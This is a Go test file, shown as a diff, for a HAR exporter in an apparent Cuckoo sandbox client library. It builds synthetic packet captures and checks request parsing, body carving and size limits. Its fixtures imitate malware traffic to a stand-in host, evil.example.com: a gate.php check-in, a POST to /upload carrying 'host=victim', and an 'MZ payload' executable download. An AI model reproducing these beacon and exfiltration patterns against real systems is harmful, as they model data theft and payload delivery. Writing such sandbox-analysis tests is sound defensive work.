@@ -0,0 +1,239 @@
+package har
+
+import (
+	"bytes"
+	"compress/gzip"
+	"context"
+	"encoding/binary"
+	"encoding/json"
+	"fmt"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strconv"
+	"testing"
+	"time"
+
+	cuckoo "github.com/godaddy/go-cukoo"
+	"github.com/godaddy/go-cukoo/internal/testutil"
+	"github.com/godaddy/go-cukoo/pcap"
+)
+
+const (
+	guest        = "192.168.56.101"
+	resultserver = "192.168.56.1"
+)
+
+var epoch = time.Date(2020, 2, 11, 16, 46, 40, 0, time.UTC)
+
+// segment is a TCP segment written by writeCapture
+type segment struct {
+	at       time.Duration
+	src, dst string
+	flags    pcap.TCPFlags
+	seq      uint32
+	payload  []byte
+}
+
+func splitEndpoint(t *testing.T, endpoint string) (net.IP, uint16) {
+	host, port, err := net.SplitHostPort(endpoint)
+	if err != nil {
+		t.Fatal(err)
+	}
+	p, err := strconv.Atoi(port)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return net.ParseIP(host).To4(), uint16(p)
+}
+
+// writeCapture returns an ethernet capture of IPv4 TCP segments
+func writeCapture(t *testing.T, segments []*segment) []byte {
+	buf := &bytes.Buffer{}
+	binary.Write(buf, binary.LittleEndian, []uint32{0xa1b2c3d4})
+	binary.Write(buf, binary.LittleEndian, []uint16{2, 4})
+	binary.Write(buf, binary.LittleEndian, []uint32{0, 0, 65535, pcap.LinkTypeEthernet})
+	for _, s := range segments {
+		srcIP, srcPort := splitEndpoint(t, s.src)
+		dstIP, dstPort := splitEndpoint(t, s.dst)
+
+		frame := &bytes.Buffer{}
+		frame.Write(make([]byte, 12))
+		binary.Write(frame, binary.BigEndian, pcap.EtherTypeIPv4)
+		frame.Write([]byte{0x45, 0})
+		binary.Write(frame, binary.BigEndian, uint16(40+len(s.payload)))
+		frame.Write([]byte{0, 1, 0x40, 0, 64, pcap.ProtocolTCP, 0, 0})
+		frame.Write(srcIP)
+		frame.Write(dstIP)
+		binary.Write(frame, binary.BigEndian, []uint16{srcPort, dstPort})
+		binary.Write(frame, binary.BigEndian, []uint32{s.seq, 0})
+		frame.Write([]byte{5 << 4, byte(s.flags), 0xff, 0xff, 0, 0, 0, 0})
+		frame.Write(s.payload)
+
+		at := epoch.Add(s.at)
+		binary.Write(buf, binary.LittleEndian, []uint32{
+			uint32(at.Unix()), uint32(at.Nanosecond() / 1000), uint32(frame.Len()), uint32(frame.Len()),
+		})
+		buf.Write(frame.Bytes())
+	}
+	return buf.Bytes()
+}
+
+func gzipped(t *testing.T, data string) []byte {
+	buf := &bytes.Buffer{}
+	w := gzip.NewWriter(buf)
+	w.Write([]byte(data))
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// httpTraffic is two pipelined requests, the first answered with a chunked gzip body split over out of order
+// segments, an unanswered request on another port and the upload of the results to the resultserver
+func httpTraffic(t *testing.T) []*segment {
+	client, server := guest+":49161", "185.100.87.202:80"
+	requests := []byte("GET /gate.php?id=1&name=a%20b HTTP/1.1\r\nHost: evil.example.com\r\nCookie: session=abc\r\n\r\n" +
+		"POST /upload HTTP/1.1\r\nHost: evil.example.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 11\r\n\r\nhost=victim")
+
+	body := gzipped(t, "MZ payload")
+	first := []byte(fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Encoding: gzip\r\n"+
+		"Transfer-Encoding: chunked\r\n\r\n%x\r\n", 5))
+	first = append(first, body[:5]...)
+	first = append(first, []byte(fmt.Sprintf("\r\n%x\r\n", len(body)-5))...)
+	first = append(first, body[5:]...)
+	first = append(first, []byte("\r\n0\r\n\r\n")...)
+	second := []byte("HTTP/1.1 302 Found\r\nLocation: http://evil.example.com/next\r\nSet-Cookie: id=42; Path=/; HttpOnly\r\nContent-Length: 0\r\n\r\n")
+	responses := append(first, second...)
+	split := 30
+
+	return []*segment{
+		{at: 0, src: guest + ":49160", dst: resultserver + ":2042", flags: pcap.TCPSyn},
+		{at: time.Millisecond, src: guest + ":49160", dst: resultserver + ":2042", flags: pcap.TCPAck, seq: 1, payload: []byte("GET /results HTTP/1.1\r\n\r\n")},
+
+		{at: time.Second, src: client, dst: server, flags: pcap.TCPSyn, seq: 100},
+		{at: time.Second + 10*time.Millisecond, src: server, dst: client, flags: pcap.TCPSyn | pcap.TCPAck, seq: 500},
+		{at: time.Second + 20*time.Millisecond, src: client, dst: server, flags: pcap.TCPAck | pcap.TCPPsh, seq: 101, payload: requests},
+		{at: time.Second + 150*time.Millisecond, src: server, dst: client, flags: pcap.TCPAck, seq: 501 + uint32(split), payload: responses[split:]},
+		{at: time.Second + 120*time.Millisecond, src: server, dst: client, flags: pcap.TCPAck, seq: 501, payload: responses[:split]},
+		{at: time.Second + 200*time.Millisecond, src: client, dst: server, flags: pcap.TCPFin | pcap.TCPAck, seq: 101 + uint32(len(requests))},
+		{at: time.Second + 210*time.Millisecond, src: server, dst: client, flags: pcap.TCPFin | pcap.TCPAck, seq: 501 + uint32(len(responses))},
+
+		{at: 2 * time.Second, src: guest + ":49162", dst: "185.100.87.203:8080", flags: pcap.TCPAck | pcap.TCPPsh, seq: 1,
+			payload: []byte("GET /ping HTTP/1.0\r\nHost: other.example.com\r\n\r\n")},
+	}
+}
+
+func TestExport(t *testing.T) {
+	carveDir := t.TempDir()
+	machine := &cuckoo.Machine{Name: "win7-1", IP: guest, ResultserverIP: resultserver, ResultserverPort: "2042"}
+	archive, err := Export(bytes.NewReader(writeCapture(t, httpTraffic(t))), &Options{
+		Options:  pcap.Options{Machines: []*cuckoo.Machine{machine}},
+		CarveDir: carveDir,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if archive.Log.Version != "1.2" || len(archive.Log.Entries) != 3 {
+		t.Fatalf("unexpected archive %+v", archive.Log)
+	}
+	get, post, ping := archive.Log.Entries[0], archive.Log.Entries[1], archive.Log.Entries[2]
+
+	if get.Request.Method != "GET" || get.Request.URL != "http://evil.example.com/gate.php?id=1&name=a%20b" ||
+		get.Request.HTTPVersion != "HTTP/1.1" || get.ServerIPAddress != "185.100.87.202" || get.Connection != guest+":49161" {
+		t.Errorf("unexpected request %+v", get.Request)
+	}
+	if !reflect.DeepEqual(get.Request.QueryString, []*NameValue{{Name: "id", Value: "1"}, {Name: "name", Value: "a b"}}) {
+		t.Errorf("unexpected query string %+v", get.Request.QueryString)
+	}
+	if len(get.Request.Cookies) != 1 || get.Request.Cookies[0].Name != "session" || get.Request.Cookies[0].Value != "abc" {
+		t.Errorf("unexpected cookies %+v", get.Request.Cookies)
+	}
+	if !get.StartedDateTime.Equal(epoch.Add(time.Second+20*time.Millisecond)) || get.Timings.Wait != 100 || get.Timings.Receive != 30 || get.Time != 130 {
+		t.Errorf("unexpected timings %v %+v", get.StartedDateTime, get.Timings)
+	}
+
+	content := get.Response.Content
+	if get.Response.Status != 200 || get.Response.StatusText != "OK" || content.Text != "TVogcGF5bG9hZA==" || content.Encoding != "base64" ||
+		content.Size != 10 || content.MimeType != "application/octet-stream" {
+		t.Errorf("unexpected response %+v %+v", get.Response, content)
+	}
+	carved, err := ioutil.ReadFile(filepath.Join(carveDir, content.SHA256+".bin"))
+	if err != nil || string(carved) != "MZ payload" || content.File != filepath.Join(carveDir, content.SHA256+".bin") || content.MD5 == "" {
+		t.Errorf("unexpected carved file %q %v %+v", carved, err, content)
+	}
+	if info, err := os.Stat(content.File); err != nil || info.Mode().Perm() != 0400 {
+		t.Errorf("carved file should be read only: %v", err)
+	}
+
+	if post.Request.PostData == nil || post.Request.PostData.Text != "host=victim" || post.Request.BodySize != 11 {
+		t.Errorf("unexpected post data %+v", post.Request.PostData)
+	}
+	if post.Response.Status != 302 || post.Response.RedirectURL != "http://evil.example.com/next" ||
+		len(post.Response.Cookies) != 1 || !post.Response.Cookies[0].HTTPOnly || post.Response.Content.Size != 0 {
+		t.Errorf("unexpected redirect %+v", post.Response)
+	}
+
+	if ping.Request.URL != "http://other.example.com:8080/ping" || ping.Response.Status != 0 || ping.Response.Comment == "" {
+		t.Errorf("unexpected unanswered request %+v %+v", ping.Request, ping.Response)
+	}
+
+	// The archive is valid JSON with the HAR field names
+	buf := &bytes.Buffer{}
+	if err := archive.Write(buf); err != nil {
+		t.Fatal(err)
+	}
+	decoded := map[string]map[string]interface{}{}
+	if err := json.Unmarshal(buf.Bytes(), &decoded); err != nil {
+		t.Fatal(err)
+	}
+	if entries, ok := decoded["log"]["entries"].([]interface{}); !ok || len(entries) != 3 {
+		t.Errorf("unexpected json %s", buf)
+	}
+}
+
+func TestExportLimits(t *testing.T) {
+	archive, err := Export(bytes.NewReader(writeCapture(t, httpTraffic(t))), &Options{
+		Options:     pcap.Options{IncludeResultserver: true},
+		MaxBodySize: 4,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(archive.Log.Entries) != 4 || archive.Log.Entries[0].Request.URL != "http://"+resultserver+":2042/results" {
+		t.Fatalf("expected the resultserver request, got %+v", archive.Log.Entries[0].Request)
+	}
+	content := archive.Log.Entries[1].Response.Content
+	if content.Text != "" || content.Size != 10 || content.Comment == "" || content.File != "" {
+		t.Errorf("body should be left out %+v", content)
+	}
+}
+
+func TestExportTask(t *testing.T) {
+	capture := writeCapture(t, httpTraffic(t))
+	c := testutil.MockClient(t, func(w http.ResponseWriter, r *http.Request) {
+		if testutil.ServeMachine(w, r) {
+			return
+		}
+		switch r.URL.Path {
+		case "/tasks/view/42":
+			fmt.Fprint(w, `{"task": {"id": 42, "machine": "win7-1"}}`)
+		case "/pcap/get/42":
+			w.Write(capture)
+		default:
+			w.WriteHeader(http.StatusNotFound)
+		}
+	})
+
+	archive, err := ExportTask(context.Background(), c, 42, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(archive.Log.Entries) != 3 {
+		t.Errorf("expected the resultserver request to be left out, got %d entries", len(archive.Log.Entries))
+	}
+}